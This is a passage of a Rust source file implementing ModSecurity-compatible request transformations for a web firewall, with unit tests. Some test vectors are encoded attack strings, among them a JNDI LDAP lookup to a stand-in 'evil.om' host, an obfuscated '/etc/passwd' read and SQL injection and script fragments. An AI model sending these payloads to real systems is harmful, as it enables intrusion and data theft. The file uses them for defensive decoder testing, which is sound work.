//! SecLang `t:` transformations, with ModSecurity v3's semantics (edge cases checked against
//! the secrules-language-tests vectors that ModSecurity and Coraza share).
//!
//! Each transformation writes into a caller-owned buffer and reports whether it changed the
//! value, so the engine can share one result between every rule with the same chain and
//! skip copies when a step is a no-op.

/// One transformation as named after `t:` in a rule.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Transform {
    /// `t:none`: resets the chain (handled by the parser; never applied).
    None,
    Lowercase,
    UrlDecode,
    UrlDecodeUni,
    HtmlEntityDecode,
    JsDecode,
    CssDecode,
    CmdLine,
    RemoveNulls,
    CompressWhitespace,
    RemoveWhitespace,
    ReplaceComments,
    RemoveComments,
    NormalisePath,
    NormalisePathWin,
    Utf8ToUnicode,
    Base64Decode,
    Base64DecodeExt,
    EscapeSeqDecode,
    HexDecode,
    Length,
    Sha1,
    Md5,
    Trim,
    TrimLeft,
    TrimRight,
    ReplaceNulls,
    SqlHexDecode,
    // Added after the stub (additive): the rest of ModSecurity's list.
    Uppercase,
    RemoveCommentsChar,
    HexEncode,
    Base64Encode,
    UrlEncode,
    ParityEven7bit,
    ParityOdd7bit,
    ParityZero7bit,
}

const NBSP: u8 = 0xa0;

/// C's `isspace` in the "C" locale, which ModSecurity uses.
fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r')
}

fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

fn is_hex(b: u8) -> bool {
    b.is_ascii_hexdigit()
}

fn is_odigit(b: u8) -> bool {
    (b'0'..=b'7').contains(&b)
}

/// Two hex digits known to be valid.
fn x2c(hi: u8, lo: u8) -> u8 {
    (hex_val(hi).unwrap_or(0) << 4) | hex_val(lo).unwrap_or(0)
}

fn is_ff(b: u8) -> bool {
    b == b'f' || b == b'F'
}

/// `%uHHHH`/`\uHHHH`: ModSecurity keeps the low byte, shifting full-width ASCII
/// (U+FF01..U+FF5E) down to ASCII.
fn uni_low_byte(h: &[u8]) -> u8 {
    let mut c = x2c(h[2], h[3]);
    if c > 0 && c < 0x5f && is_ff(h[0]) && is_ff(h[1]) {
        c += 0x20;
    }
    c
}

const HEX_LOWER: &[u8; 16] = b"0123456789abcdef";

impl Transform {
    /// The transformation named `name` (case-insensitive, as ModSecurity accepts).
    pub fn parse(name: &str) -> Option<Transform> {
        let t = match name.to_ascii_lowercase().as_str() {
            "none" => Transform::None,
            "lowercase" => Transform::Lowercase,
            "uppercase" => Transform::Uppercase,
            "urldecode" => Transform::UrlDecode,
            "urldecodeuni" => Transform::UrlDecodeUni,
            "htmlentitydecode" => Transform::HtmlEntityDecode,
            "jsdecode" => Transform::JsDecode,
            "cssdecode" => Transform::CssDecode,
            "cmdline" => Transform::CmdLine,
            "removenulls" => Transform::RemoveNulls,
            "replacenulls" => Transform::ReplaceNulls,
            "compresswhitespace" => Transform::CompressWhitespace,
            "removewhitespace" => Transform::RemoveWhitespace,
            "replacecomments" => Transform::ReplaceComments,
            "removecomments" => Transform::RemoveComments,
            "removecommentschar" => Transform::RemoveCommentsChar,
            "normalisepath" | "normalizepath" => Transform::NormalisePath,
            "normalisepathwin" | "normalizepathwin" => Transform::NormalisePathWin,
            "utf8tounicode" => Transform::Utf8ToUnicode,
            "base64decode" => Transform::Base64Decode,
            "base64decodeext" => Transform::Base64DecodeExt,
            "base64encode" => Transform::Base64Encode,
            "escapeseqdecode" => Transform::EscapeSeqDecode,
            "hexdecode" => Transform::HexDecode,
            "hexencode" => Transform::HexEncode,
            "sqlhexdecode" => Transform::SqlHexDecode,
            "length" => Transform::Length,
            "sha1" => Transform::Sha1,
            "md5" => Transform::Md5,
            "trim" => Transform::Trim,
            "trimleft" => Transform::TrimLeft,
            "trimright" => Transform::TrimRight,
            "urlencode" => Transform::UrlEncode,
            "parityeven7bit" => Transform::ParityEven7bit,
            "parityodd7bit" => Transform::ParityOdd7bit,
            "parityzero7bit" => Transform::ParityZero7bit,
            _ => return None,
        };
        Some(t)
    }

    /// Applies the transformation to `input`, writing the result to `out` (cleared first).
    /// Returns false when the output equals the input (`out` is then left empty), so callers
    /// can share the input without copying.
    pub fn apply(self, input: &[u8], out: &mut Vec<u8>) -> bool {
        out.clear();
        match self {
            Transform::None => return false,
            Transform::Lowercase => {
                if !input.iter().any(u8::is_ascii_uppercase) {
                    return false;
                }
                out.extend(input.iter().map(u8::to_ascii_lowercase));
            }
            Transform::Uppercase => {
                if !input.iter().any(u8::is_ascii_lowercase) {
                    return false;
                }
                out.extend(input.iter().map(u8::to_ascii_uppercase));
            }
            Transform::UrlDecode => {
                if !url_decode(input, false, out) {
                    return false;
                }
            }
            Transform::UrlDecodeUni => {
                if !url_decode(input, true, out) {
                    return false;
                }
            }
            Transform::HtmlEntityDecode => {
                if !input.contains(&b'&') {
                    return false;
                }
                html_entity_decode(input, out);
            }
            Transform::JsDecode => {
                if !input.contains(&b'\\') {
                    return false;
                }
                js_decode(input, out);
            }
            Transform::CssDecode => {
                if !input.contains(&b'\\') {
                    return false;
                }
                css_decode(input, out);
            }
            Transform::EscapeSeqDecode => {
                if !input.contains(&b'\\') {
                    return false;
                }
                escape_seq_decode(input, out);
            }
            Transform::CmdLine => cmd_line(input, out),
            Transform::RemoveNulls => {
                if !input.contains(&0) {
                    return false;
                }
                out.extend(input.iter().filter(|&&b| b != 0));
            }
            Transform::ReplaceNulls => {
                if !input.contains(&0) {
                    return false;
                }
                out.extend(input.iter().map(|&b| if b == 0 { b' ' } else { b }));
            }
            Transform::CompressWhitespace => {
                if !compress_whitespace(input, out) {
                    return false;
                }
            }
            Transform::RemoveWhitespace => {
                if !input.iter().any(|&b| is_space(b) || b == NBSP) {
                    return false;
                }
                out.extend(input.iter().filter(|&&b| !(is_space(b) || b == NBSP)));
            }
            Transform::ReplaceComments => {
                if !input.windows(2).any(|w| w == b"/*") {
                    return false;
                }
                replace_comments(input, out);
            }
            Transform::RemoveComments => remove_comments(input, out),
            Transform::RemoveCommentsChar => remove_comments_char(input, out),
            Transform::NormalisePath => normalise_path(input, false, out),
            Transform::NormalisePathWin => normalise_path(input, true, out),
            Transform::Utf8ToUnicode => {
                if input.is_ascii() {
                    return false;
                }
                utf8_to_unicode(input, out);
            }
            Transform::Base64Decode => base64_decode(input, false, out),
            Transform::Base64DecodeExt => base64_decode(input, true, out),
            Transform::Base64Encode => base64_encode(input, out),
            Transform::HexDecode => hex_decode(input, out),
            Transform::HexEncode => {
                for &b in input {
                    out.push(HEX_LOWER[(b >> 4) as usize]);
                    out.push(HEX_LOWER[(b & 15) as usize]);
                }
            }
            Transform::SqlHexDecode => sql_hex_decode(input, out),
            Transform::Length => {
                use std::io::Write;
                let _ = write!(out, "{}", input.len());
            }
            Transform::Sha1 => {
                out.extend_from_slice(&sha1_smol::Sha1::from(input).digest().bytes())
            }
            Transform::Md5 => out.extend_from_slice(&md5::compute(input).0),
            Transform::Trim | Transform::TrimLeft | Transform::TrimRight => {
                let mut s = 0;
                let mut e = input.len();
                if self != Transform::TrimRight {
                    while s < e && is_space(input[s]) {
                        s += 1;
                    }
                }
                if self != Transform::TrimLeft {
                    while e > s && is_space(input[e - 1]) {
                        e -= 1;
                    }
                }
                if s != 0 || e != input.len() {
                    out.extend_from_slice(&input[s..e]);
                    // An all-space input trims to empty: still a change.
                    return true;
                }
            }
            Transform::UrlEncode => url_encode(input, out),
            Transform::ParityEven7bit | Transform::ParityOdd7bit | Transform::ParityZero7bit => {
                for &b in input {
                    let low = b & 0x7f;
                    let ones = low.count_ones();
                    let p = match self {
                        Transform::ParityEven7bit => (ones % 2 == 1) as u8,
                        Transform::ParityOdd7bit => (ones % 2 == 0) as u8,
                        _ => 0,
                    };
                    out.push(low | (p << 7));
                }
            }
        }
        if out.as_slice() == input {
            out.clear();
            return false;
        }
        true
    }
}

fn url_decode(input: &[u8], uni: bool, out: &mut Vec<u8>) -> bool {
    if !input.iter().any(|&b| b == b'%' || b == b'+') {
        return false;
    }
    let n = input.len();
    let mut i = 0;
    while i < n {
        let c = input[i];
        if c == b'%' {
            if uni
                && i + 1 < n
                && (input[i + 1] == b'u' || input[i + 1] == b'U')
                && i + 5 < n
                && input[i + 2..i + 6].iter().all(|&b| is_hex(b))
            {
                out.push(uni_low_byte(&input[i + 2..i + 6]));
                i += 6;
            } else if i + 2 < n && is_hex(input[i + 1]) && is_hex(input[i + 2]) {
                out.push(x2c(input[i + 1], input[i + 2]));
                i += 3;
            } else {
                // Invalid encodings are kept as they are (non-strict decoding).
                out.push(b'%');
                i += 1;
            }
        } else if c == b'+' {
            out.push(b' ');
            i += 1;
        } else {
            out.push(c);
            i += 1;
        }
    }
    true
}

fn url_encode(input: &[u8], out: &mut Vec<u8>) {
    for &c in input {
        if c == b' ' {
            out.push(b'+');
        } else if c == b'*' || c.is_ascii_alphanumeric() {
            out.push(c);
        } else {
            out.push(b'%');
            out.push(HEX_LOWER[(c >> 4) as usize]);
            out.push(HEX_LOWER[(c & 15) as usize]);
        }
    }
}

fn html_entity_decode(input: &[u8], out: &mut Vec<u8>) {
    let n = input.len();
    let mut i = 0;
    while i < n {
        if input[i] != b'&' || i + 1 >= n {
            out.push(input[i]);
            i += 1;
            continue;
        }
        if input[i + 1] == b'#' {
            let hex = i + 2 < n && (input[i + 2] == b'x' || input[i + 2] == b'X');
            let k = if hex { i + 3 } else { i + 2 };
            let mut j = k;
            while j < n
                && (if hex {
                    is_hex(input[j])
                } else {
                    input[j].is_ascii_digit()
                })
            {
                j += 1;
            }
            if j > k {
                // strtol saturates, then ModSecurity keeps the low byte.
                let mut v: u64 = 0;
                for &d in &input[k..j] {
                    let dv = if hex {
                        hex_val(d).unwrap_or(0)
                    } else {
                        d - b'0'
                    } as u64;
                    v = v
                        .saturating_mul(if hex { 16 } else { 10 })
                        .saturating_add(dv)
                        .min(i64::MAX as u64);
                }
                out.push(v as u8);
                i = if j < n && input[j] == b';' { j + 1 } else { j };
                continue;
            }
        } else {
            let k = i + 1;
            let mut j = k;
            while j < n && input[j].is_ascii_alphanumeric() {
                j += 1;
            }
            let name = &input[k..j];
            let decoded = if name.eq_ignore_ascii_case(b"quot") {
                Some(b'"')
            } else if name.eq_ignore_ascii_case(b"amp") {
                Some(b'&')
            } else if name.eq_ignore_ascii_case(b"lt") {
                Some(b'<')
            } else if name.eq_ignore_ascii_case(b"gt") {
                Some(b'>')
            } else if name.eq_ignore_ascii_case(b"nbsp") {
                Some(NBSP)
            } else {
                None
            };
            if let Some(c) = decoded {
                out.push(c);
                i = if j < n && input[j] == b';' { j + 1 } else { j };
                continue;
            }
        }
        out.push(b'&');
        i += 1;
    }
}

/// Up to three octal digits starting at `s` (ModSecurity's scan); returns (value, digits).
fn octal(input: &[u8], s: usize, max3_only_if_byte: bool) -> (u32, usize) {
    let mut j = 0;
    while s + j < input.len() && j < 3 && is_odigit(input[s + j]) {
        j += 1;
    }
    if max3_only_if_byte && j == 3 && input[s] > b'3' {
        j = 2;
    }
    let v = input[s..s + j]
        .iter()
        .fold(0u32, |a, &d| a * 8 + (d - b'0') as u32);
    (v, j)
}

fn js_decode(input: &[u8], out: &mut Vec<u8>) {
    let n = input.len();
    let mut i = 0;
    while i < n {
        if input[i] != b'\\' {
            out.push(input[i]);
            i += 1;
            continue;
        }
        if i + 5 < n && input[i + 1] == b'u' && input[i + 2..i + 6].iter().all(|&b| is_hex(b)) {
            out.push(uni_low_byte(&input[i + 2..i + 6]));
            i += 6;
        } else if i + 3 < n && input[i + 1] == b'x' && is_hex(input[i + 2]) && is_hex(input[i + 3])
        {
            out.push(x2c(input[i + 2], input[i + 3]));
            i += 4;
        } else if i + 1 < n && is_odigit(input[i + 1]) {
            let (v, j) = octal(input, i + 1, true);
            out.push(v as u8);
            i += 1 + j;
        } else if i + 1 < n {
            let c = match input[i + 1] {
                b'a' => 7,
                b'b' => 8,
                b'f' => 12,
                b'n' => b'\n',
                b'r' => b'\r',
                b't' => b'\t',
                b'v' => 11,
                c => c,
            };
            out.push(c);
            i += 2;
        } else {
            out.push(b'\\');
            i += 1;
        }
    }
}

fn css_decode(input: &[u8], out: &mut Vec<u8>) {
    let n = input.len();
    let mut i = 0;
    while i < n {
        if input[i] != b'\\' {
            out.push(input[i]);
            i += 1;
            continue;
        }
        if i + 1 >= n {
            // A trailing backslash is a continuation to nothing.
            i += 1;
            continue;
        }
        i += 1;
        let mut j = 0;
        while j < 6 && i + j < n && is_hex(input[i + j]) {
            j += 1;
        }
        if j > 0 {
            let mut c = if j == 1 {
                hex_val(input[i]).unwrap_or(0)
            } else {
                x2c(input[i + j - 2], input[i + j - 1])
            };
            if j >= 4 && c > 0 && c < 0x5f && is_ff(input[i + j - 4]) && is_ff(input[i + j - 3]) {
                c += 0x20;
            }
            out.push(c);
            // One whitespace after a hex escape belongs to the escape.
            if i + j < n && is_space(input[i + j]) {
                j += 1;
            }
            i += j;
        } else if input[i] == b'\n' {
            i += 1;
        } else {
            out.push(input[i]);
            i += 1;
        }
    }
}

fn escape_seq_decode(input: &[u8], out: &mut Vec<u8>) {
    let n = input.len();
    let mut i = 0;
    while i < n {
        if input[i] != b'\\' || i + 1 >= n {
            out.push(input[i]);
            i += 1;
            continue;
        }
        let simple = match input[i + 1] {
            b'a' => Some(7),
            b'b' => Some(8),
            b'f' => Some(12),
            b'n' => Some(b'\n'),
            b'r' => Some(b'\r'),
            b't' => Some(b'\t'),
            b'v' => Some(11),
            b'\\' => Some(b'\\'),
            b'?' => Some(b'?'),
            b'\'' => Some(b'\''),
            b'"' => Some(b'"'),
            _ => None,
        };
        if let Some(c) = simple {
            out.push(c);
            i += 2;
            continue;
        }
        let nx = input[i + 1];
        if (nx == b'x' || nx == b'X') && i + 3 < n && is_hex(input[i + 2]) && is_hex(input[i + 3]) {
            out.push(x2c(input[i + 2], input[i + 3]));
            i += 4;
        } else if is_odigit(nx) {
            let (v, j) = octal(input, i + 1, false);
            out.push(v as u8);
            i += 1 + j;
        } else {
            // Unknown escape: the backslash goes, the character stays.
            out.push(nx);
            i += 2;
        }
    }
}

fn cmd_line(input: &[u8], out: &mut Vec<u8>) {
    let mut space = false;
    for &a in input {
        match a {
            b'"' | b'\'' | b'\\' | b'^' => {}
            b' ' | b',' | b';' | b'\t' | b'\r' | b'\n' => {
                if !space {
                    out.push(b' ');
                    space = true;
                }
            }
            b'/' | b'(' => {
                if space {
                    out.pop();
                }
                space = false;
                out.push(a);
            }
            _ => {
                out.push(a.to_ascii_lowercase());
                space = false;
            }
        }
    }
}

fn compress_whitespace(input: &[u8], out: &mut Vec<u8>) -> bool {
    let ws = |b: u8| is_space(b) || b == NBSP;
    if !input.windows(2).any(|w| ws(w[0]) && ws(w[1])) && !input.iter().any(|&b| ws(b) && b != b' ')
    {
        return false;
    }
    let mut in_ws = false;
    for &b in input {
        if ws(b) {
            if !in_ws {
                out.push(b' ');
                in_ws = true;
            }
        } else {
            out.push(b);
            in_ws = false;
        }
    }
    true
}

fn replace_comments(input: &[u8], out: &mut Vec<u8>) {
    let n = input.len();
    let mut i = 0;
    let mut incomment = false;
    while i < n {
        if !incomment {
            if input[i] == b'/' && i + 1 < n && input[i + 1] == b'*' {
                incomment = true;
                i += 2;
            } else {
                out.push(input[i]);
                i += 1;
            }
        } else if input[i] == b'*' && i + 1 < n && input[i + 1] == b'/' {
            incomment = false;
            i += 2;
            out.push(b' ');
        } else {
            i += 1;
        }
    }
    if incomment {
        out.push(b' ');
    }
}

/// `/* */` and `<!-- -->` comments go; `--` and `#` end the value (SQL line comments).
/// An unterminated block comment leaves one space, as ModSecurity does.
fn remove_comments(input: &[u8], out: &mut Vec<u8>) {
    let n = input.len();
    let mut i = 0;
    let mut incomment = false;
    while i < n {
        if !incomment {
            if input[i..].starts_with(b"/*") {
                incomment = true;
                i += 2;
            } else if input[i..].starts_with(b"<!--") {
                incomment = true;
                i += 4;
            } else if input[i..].starts_with(b"--") || input[i] == b'#' {
                break;
            } else {
                out.push(input[i]);
                i += 1;
            }
        } else if input[i..].starts_with(b"*/") {
            incomment = false;
            i += 2;
        } else if input[i..].starts_with(b"-->") {
            incomment = false;
            i += 3;
        } else {
            i += 1;
        }
    }
    if incomment {
        out.push(b' ');
    }
}

fn remove_comments_char(input: &[u8], out: &mut Vec<u8>) {
    let n = input.len();
    let mut i = 0;
    while i < n {
        let rest = &input[i..];
        if rest.starts_with(b"/*") || rest.starts_with(b"*/") {
            i += 2;
        } else if rest.starts_with(b"<!--") {
            i += 4;
        } else if rest.starts_with(b"-->") {
            i += 3;
        } else if rest.starts_with(b"--") {
            i += 2;
        } else if rest[0] == b'#' {
            i += 1;
        } else {
            out.push(rest[0]);
            i += 1;
        }
    }
}

/// A port of ModSecurity's `normalize_path_inplace`: collapses `//`, drops `./`, resolves
/// `../` without climbing above the root, keeps leading `../` of relative paths.
fn normalise_path(input: &[u8], win: bool, out: &mut Vec<u8>) {
    if input.is_empty() {
        return;
    }
    out.extend_from_slice(input);
    let b = out;
    let slash = |c: u8| c == b'/' || (win && c == b'\\');
    let end = b.len() - 1;
    let relative = !slash(b[0]);
    let trailing = slash(b[end]);
    let (mut src, mut dst) = (0usize, 0usize);
    let mut hitroot = false;
    let mut done = false;
    while !done && src <= end && dst <= end {
        if win {
            if b[src] == b'\\' {
                b[src] = b'/';
            }
            if src < end && b[src + 1] == b'\\' {
                b[src + 1] = b'/';
            }
        }
        let mut skip_norm = false;
        if src == end {
            done = true;
        } else if b[src + 1] != b'/' {
            skip_norm = true;
        }
        let mut skip_copy = false;
        if !skip_norm {
            if src != end && b[src] == b'/' {
                // Empty segment: the copy below collapses it.
            } else if b[src] == b'.' {
                if dst > 0 && b[dst - 1] == b'.' {
                    if relative && (hitroot || dst < 3) {
                        hitroot = true;
                    } else {
                        // Drop the back-reference and the previous segment.
                        let mut d = dst as isize - 3;
                        while d > 0 && b[d as usize] != b'/' {
                            d -= 1;
                        }
                        if d <= 0 {
                            hitroot = true;
                            dst = 0;
                            if !relative && src == end {
                                dst = 1;
                            }
                        } else {
                            dst = d as usize;
                        }
                        if done {
                            skip_copy = true;
                        } else {
                            src += 1;
                        }
                    }
                } else if dst == 0 {
                    if done {
                        skip_copy = true;
                    } else {
                        src += 1;
                    }
                } else if b[dst - 1] == b'/' {
                    if done {
                        skip_copy = true;
                    } else {
                        dst -= 1;
                        src += 1;
                    }
                }
            } else if dst > 0 {
                hitroot = false;
            }
        }
        if !skip_copy {
            if b[src] == b'/' {
                while src < end && slash(b[src + 1]) {
                    src += 1;
                }
                if relative && dst == 0 {
                    src += 1;
                    skip_copy = true;
                }
            }
            if !skip_copy {
                b[dst] = b[src];
                dst += 1;
                src += 1;
            }
        }
    }
    if !trailing && dst > 0 && b[dst - 1] == b'/' {
        dst -= 1;
    }
    b.truncate(dst);
}

fn utf8_to_unicode(input: &[u8], out: &mut Vec<u8>) {
    let n = input.len();
    let mut i = 0;
    let push_u = |out: &mut Vec<u8>, v: u32| {
        use std::io::Write;
        let _ = write!(out, "%u{:04x}", v);
    };
    while i < n {
        let c = input[i];
        let cont = |k: usize| i + k < n && input[i + k] & 0xc0 == 0x80;
        if c < 0x80 {
            out.push(c);
            i += 1;
        } else if c & 0xe0 == 0xc0 && cont(1) {
            push_u(out, ((c as u32 & 0x1f) << 6) | (input[i + 1] as u32 & 0x3f));
            i += 2;
        } else if c & 0xf0 == 0xe0 && cont(1) && cont(2) {
            push_u(
                out,
                ((c as u32 & 0x0f) << 12)
                    | ((input[i + 1] as u32 & 0x3f) << 6)
                    | (input[i + 2] as u32 & 0x3f),
            );
            i += 3;
        } else if c & 0xf8 == 0xf0 && cont(1) && cont(2) && cont(3) {
            push_u(
                out,
                ((c as u32 & 0x07) << 18)
                    | ((input[i + 1] as u32 & 0x3f) << 12)
                    | ((input[i + 2] as u32 & 0x3f) << 6)
                    | (input[i + 3] as u32 & 0x3f),
            );
            i += 4;
        } else {
            // Invalid UTF-8 is passed through unchanged.
            out.push(c);
            i += 1;
        }
    }
}

fn b64_val(c: u8) -> Option<u32> {
    Some(match c {
        b'A'..=b'Z' => c - b'A',
        b'a'..=b'z' => c - b'a' + 26,
        b'0'..=b'9' => c - b'0' + 52,
        b'+' | b'-' => 62,
        b'/' | b'_' => 63,
        _ => return None,
    } as u32)
}

/// Strict mode stops at the first character outside the alphabet (padding included) and
/// ignores line breaks; Ext skips every such character instead.
fn base64_decode(input: &[u8], ext: bool, out: &mut Vec<u8>) {
    let mut acc: u32 = 0;
    let mut bits = 0;
    for &c in input {
        match b64_val(c) {
            Some(v) => {
                acc = (acc << 6) | v;
                bits += 6;
                if bits >= 8 {
                    bits -= 8;
                    out.push((acc >> bits) as u8);
                    acc &= (1 << bits) - 1;
                }
            }
            None if ext || c == b'\r' || c == b'\n' => {}
            None => break,
        }
    }
}

fn base64_encode(input: &[u8], out: &mut Vec<u8>) {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for ch in input.chunks(3) {
        let v = (ch[0] as u32) << 16
            | (*ch.get(1).unwrap_or(&0) as u32) << 8
            | *ch.get(2).unwrap_or(&0) as u32;
        out.push(T[(v >> 18) as usize & 63]);
        out.push(T[(v >> 12) as usize & 63]);
        out.push(if ch.len() > 1 {
            T[(v >> 6) as usize & 63]
        } else {
            b'='
        });
        out.push(if ch.len() > 2 {
            T[v as usize & 63]
        } else {
            b'='
        });
    }
}

/// Pairs of hex digits; decoding stops at the first pair that is not hex (ModSecurity
/// and Coraza both yield the prefix decoded so far).
fn hex_decode(input: &[u8], out: &mut Vec<u8>) {
    for p in input.chunks_exact(2) {
        if !(is_hex(p[0]) && is_hex(p[1])) {
            break;
        }
        out.push(x2c(p[0], p[1]));
    }
}

fn sql_hex_decode(input: &[u8], out: &mut Vec<u8>) {
    let n = input.len();
    let mut i = 0;
    while i < n {
        if input[i] == b'0'
            && i + 3 < n
            && (input[i + 1] == b'x' || input[i + 1] == b'X')
            && is_hex(input[i + 2])
            && is_hex(input[i + 3])
        {
            i += 2;
            while i + 1 < n && is_hex(input[i]) && is_hex(input[i + 1]) {
                out.push(x2c(input[i], input[i + 1]));
                i += 2;
            }
        } else {
            out.push(input[i]);
            i += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::Transform as T;
    use super::*;

    fn run(t: Transform, input: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        if t.apply(input, &mut out) {
            out
        } else {
            assert!(
                out.is_empty(),
                "{t:?}: unchanged output must leave out empty"
            );
            input.to_vec()
        }
    }

    fn check(t: Transform, input: &[u8], want: &[u8]) {
        let got = run(t, input);
        assert_eq!(
            got,
            want,
            "{t:?}({:?}) = {:?}, want {:?}",
            String::from_utf8_lossy(input),
            String::from_utf8_lossy(&got),
            String::from_utf8_lossy(want)
        );
    }

    #[test]
    fn parse_names_case_insensitively_with_both_spellings() {
        assert_eq!(T::parse("urlDecodeUni"), Some(T::UrlDecodeUni));
        assert_eq!(T::parse("base64decode"), Some(T::Base64Decode));
        assert_eq!(T::parse("normalizePathWin"), Some(T::NormalisePathWin));
        assert_eq!(T::parse("normalisePath"), Some(T::NormalisePath));
        assert_eq!(T::parse("utf8toUnicode"), Some(T::Utf8ToUnicode));
        assert_eq!(T::parse("bogus"), None);
    }

    #[test]
    fn apply_reports_change() {
        let mut out = Vec::new();
        assert!(!T::Lowercase.apply(b"abc", &mut out));
        assert!(out.is_empty());
        assert!(T::Lowercase.apply(b"aBc", &mut out));
        assert_eq!(out, b"abc");
        assert!(T::NormalisePath.apply(b".", &mut out));
        assert!(out.is_empty());
        assert!(T::Trim.apply(b"   ", &mut out));
        assert!(out.is_empty());
        assert!(T::RemoveNulls.apply(b"\0\0", &mut out));
        assert!(!T::UrlDecode.apply(b"", &mut out));
    }

    #[test]
    fn url_decode_vectors() {
        check(T::UrlDecode, b"Test+Case", b"Test Case");
        check(T::UrlDecode, b"%27%20OR%201", b"' OR 1");
        for (i, o) in [
            (&b"%+"[..], &b"% "[..]),
            (b"%%20", b"% "),
            (b"%0g%20", b"%0g "),
            (b"%0%20", b"%0 "),
            (b"%", b"%"),
            (b"%0", b"%0"),
            (b"%gg", b"%gg"),
        ] {
            check(T::UrlDecode, i, o);
            check(T::UrlDecodeUni, i, o);
        }
        check(T::UrlDecode, b"%u0041", b"%u0041");
        check(T::UrlDecodeUni, b"%u0041%U0042", b"AB");
        check(T::UrlDecodeUni, b"%u1141", b"A");
        check(T::UrlDecodeUni, b"%uff01%uff5e%uff00%uff7f", b"!~\x00\x7f");
        check(T::UrlDecodeUni, b"%u000g%u0020", b"%u000g ");
        check(T::UrlDecodeUni, b"%u00%u0020", b"%u00 ");
    }

    #[test]
    fn url_encode_vectors() {
        check(T::UrlEncode, b"Test Case", b"Test+Case");
        check(T::UrlEncode, b"% ", b"%25+");
        check(T::UrlEncode, b"a*b~", b"a*b%7e");
    }

    #[test]
    fn html_entity_decode_vectors() {
        check(
            T::HtmlEntityDecode,
            b"&#xg;&#Xg;&#xg0;&#X2g;&#a;\0&#a2;&#3a&#a00;&#1a0;&#10a;&foo;",
            b"&#xg;&#Xg;&#xg0;\x02g;&#a;\0&#a2;\x03a&#a00;\x01a0;\na;&foo;",
        );
        check(
            T::HtmlEntityDecode,
            b"&#x0;&#X0;&#x20;&#X20;&#0;&#32;\0&#100;&quot;&amp;&lt;&gt;&nbsp;",
            b"\0\0  \0 \0d\"&<>\xa0",
        );
        check(
            T::HtmlEntityDecode,
            b"&#x0&#X0&#x20&#X20&#0&#32\0&#100&quot&amp&lt&gt&nbsp",
            b"\0\0  \0 \0d\"&<>\xa0",
        );
        check(
            T::HtmlEntityDecode,
            b"&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w&#x7d;",
            b"${jndi:ldap://evil.om/w}",
        );
        check(T::HtmlEntityDecode, b"&LT;script&GT;", b"<script>");
    }

    #[test]
    fn js_decode_vectors() {
        check(
            T::JsDecode,
            b"\\a\\b\\f\\n\\r\\t\\v\\?\\'\\\"\\0\\12\\123\\x00\\xff",
            b"\x07\x08\x0c\n\r\t\x0b?'\"\0\nS\0\xff",
        );
        check(T::JsDecode, b"\\x", b"x");
        check(T::JsDecode, b"\\x\\x0", b"xx0");
        check(T::JsDecode, b"\\u\\u0\\u01\\u012", b"uu0u01u012");
        check(T::JsDecode, b"\\", b"\\");
        check(T::JsDecode, b"\\\\0", b"\\0");
        check(T::JsDecode, b"\\u003cscript\\u003e", b"<script>");
        check(T::JsDecode, b"\\uff1cscript", b"<script");
        check(T::JsDecode, b"\\777", b"?7");
    }

    #[test]
    fn css_decode_vectors() {
        check(
            T::CssDecode,
            b"test\\a\\b\\f\\n\\r\\t\\v\\?\\'\\\"\\\0\\12\\123\\1234\\12345\\123456\\ff01\\ff5e\\\n\\0 string",
            b"test\n\x0b\x0fnrtv?'\"\0\x12#4EV!~\0string",
        );
        check(T::CssDecode, b"test\\", b"test");
        check(
            T::CssDecode,
            b"\\1A\\1 A\\1234567\\123456 7\\1x\\1 x",
            b"\x1a\x01AV7V7\x01x\x01x",
        );
        check(T::CssDecode, b"java\\73 cript", b"javascript");
    }

    #[test]
    fn escape_seq_decode_vectors() {
        check(
            T::EscapeSeqDecode,
            b"\\a\\b\\f\\n\\r\\t\\v\\?\\'\\\"\\0\\12\\123\\x00\\xff",
            b"\x07\x08\x0c\n\r\t\x0b?'\"\0\nS\0\xff",
        );
        check(
            T::EscapeSeqDecode,
            b"\\8\\9\\666\\xag\\xga\\0123",
            b"89\xb6xagxga\x0a3",
        );
        check(T::EscapeSeqDecode, b"\\x\\x0", b"xx0");
        check(T::EscapeSeqDecode, b"\\01", b"\x01");
        check(T::EscapeSeqDecode, b"\\", b"\\");
    }

    #[test]
    fn cmd_line_vectors() {
        check(T::CmdLine, b"C^OMMAND /C DIR", b"command/c dir");
        check(T::CmdLine, b"cmd,/c DiR", b"cmd/c dir");
        check(T::CmdLine, b"\"command\" /c DiR", b"command/c dir");
        check(T::CmdLine, b"c\\a\"t /e't'c/pa''sswd", b"cat/etc/passwd");
        check(T::CmdLine, b"test", b"test");
    }

    #[test]
    fn whitespace_and_nulls() {
        check(T::CompressWhitespace, b"a \t\n\x0b\x0c\r\xa0b  c", b"a b c");
        check(T::CompressWhitespace, b"a\tb", b"a b");
        check(T::CompressWhitespace, b"a b", b"a b");
        check(T::RemoveWhitespace, b" a\tb\r\nc\xa0", b"abc");
        check(T::RemoveNulls, b"a\0b\0", b"ab");
        check(T::ReplaceNulls, b"a\0b", b"a b");
        check(T::Trim, b" \t a b \r\n", b"a b");
        check(T::TrimLeft, b"  a ", b"a ");
        check(T::TrimRight, b"  a ", b"  a");
    }

    #[test]
    fn comment_vectors() {
        check(
            T::ReplaceComments,
            b"Before/* TestCase */After",
            b"Before After",
        );
        check(T::ReplaceComments, b"Before /* Test\nCase ", b"Before  ");
        check(
            T::ReplaceComments,
            b"Test\nCase */ After",
            b"Test\nCase */ After",
        );
        check(
            T::RemoveComments,
            b"Before/* TestCase */After",
            b"BeforeAfter",
        );
        check(T::RemoveComments, b"Before /* Test\nCase ", b"Before  ");
        check(
            T::RemoveComments,
            b"Before/* T*/ /* e */ /* s */ /* t */\r\nCase ",
            b"Before   \r\nCase ",
        );
        check(T::RemoveComments, b"Test/*\nCase */ After", b"Test After");
        check(
            T::RemoveComments,
            b"1 union select 1-- x",
            b"1 union select 1",
        );
        check(T::RemoveComments, b"a<!-- b -->c", b"ac");
        check(
            T::RemoveCommentsChar,
